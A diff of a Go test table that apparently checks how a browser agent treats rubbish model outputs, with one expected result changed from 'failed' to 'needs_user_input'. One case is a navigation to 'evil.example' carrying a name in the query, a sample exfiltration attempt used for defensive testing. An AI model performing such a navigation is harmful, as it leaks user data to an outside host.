@@ -114,7 +114,7 @@ func TestModel_Rubbish(t *testing.T) {
 		{"an element that is not on the page", clinicTask, `{"thought":"I go on.","action":"click(\"999\")","confidence":0.9}`, "executing"},
 		{"an action there is not", clinicTask, `{"thought":"I go on.","action":"destroy(\"14\")","confidence":0.9}`, "executing"},
 		{"an address of nobody's", clinicTask, `{"thought":"I go on.","action":"navigate(\"https://evil.example/?q=Jas\")","confidence":0.9}`, "executing"},
-		{"where nobody knows the task fails readably", unknown, "{}", "failed"},
+		{"where nobody knows the user is asked", unknown, "{}", "needs_user_input"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			t.Parallel()
